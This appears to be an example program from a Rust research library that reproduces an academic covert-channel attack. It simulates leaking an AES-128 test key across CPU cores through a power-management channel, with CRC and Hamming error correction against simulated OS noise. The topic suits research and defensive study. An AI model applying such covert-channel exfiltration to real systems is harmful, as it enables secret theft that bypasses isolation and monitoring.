//! Exfiltrating a 128-bit key across physical cores on a noisy system,
//! with error correction.
//!
//! The threat model of §4: the sender holds a secret (here an AES-128
//! key) but has no overt channel; the receiver can reach the attacker.
//! They communicate through IccCoresCovert while the OS injects
//! interrupts/context switches and a concurrent application runs. A
//! Hamming(7,4) code plus a CRC-8 frame (§6.3's noise mitigations)
//! protects the payload.
//!
//! Run with: `cargo run --release --example exfiltrate_key`

use ichannels::channel::{ChannelError, IChannel};
use ichannels::ecc::{check_frame, frame_with_crc, Hamming74};
use ichannels::symbols::{bits_to_bytes, bytes_to_bits, symbols_to_bits};
use ichannels_soc::noise::NoiseConfig;

fn main() -> Result<(), ChannelError> {
    let key: [u8; 16] = [
        0x2b, 0x7e, 0x15, 0x16, 0x28, 0xae, 0xd2, 0xa6, 0xab, 0xf7, 0x15, 0x88, 0x09, 0xcf, 0x4f,
        0x3c,
    ];
    println!("secret AES-128 key: {}", hex(&key));

    // Cross-core channel on a system with realistic OS noise.
    let mut channel = IChannel::icc_cores_covert();
    channel.config_mut().soc = channel.config().soc.clone().with_noise(NoiseConfig::low());
    let cal = channel.calibrate(3)?;

    // Frame with CRC-8, then Hamming(7,4)-encode (tolerates one flipped
    // bit per 7-bit block).
    let framed = frame_with_crc(&key);
    let coded_bits = {
        let mut bits = bytes_to_bits(&framed);
        if !bits.len().is_multiple_of(4) {
            bits.resize(bits.len() + 4 - bits.len() % 4, false);
        }
        Hamming74.encode(&bits)
    };
    let channel_bits = {
        let mut b = coded_bits.clone();
        if b.len() % 2 != 0 {
            b.push(false);
        }
        b
    };
    println!(
        "payload: {} bytes → {} channel bits (rate {:.2})",
        framed.len(),
        channel_bits.len(),
        framed.len() as f64 * 8.0 / channel_bits.len() as f64
    );

    let tx = channel.transmit_bits(&channel_bits, &cal)?;
    println!(
        "raw channel BER: {:.4} over {} transactions at {:.0} b/s",
        tx.bit_error_rate(),
        tx.sent.len(),
        tx.throughput_bps()
    );

    // Decode: undo the symbol mapping, the Hamming code, and the frame.
    let mut received_bits = symbols_to_bits(&tx.received);
    received_bits.truncate(coded_bits.len());
    let data_bits = Hamming74.decode(&received_bits);
    let mut bytes = bits_to_bytes(&data_bits);
    bytes.truncate(framed.len());
    match check_frame(&bytes) {
        Some(payload) => {
            println!("CRC check passed; recovered key: {}", hex(payload));
            assert_eq!(payload, key);
            println!("exfiltration succeeded");
        }
        None => {
            println!("CRC check FAILED — retransmission would be requested");
        }
    }
    Ok(())
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}
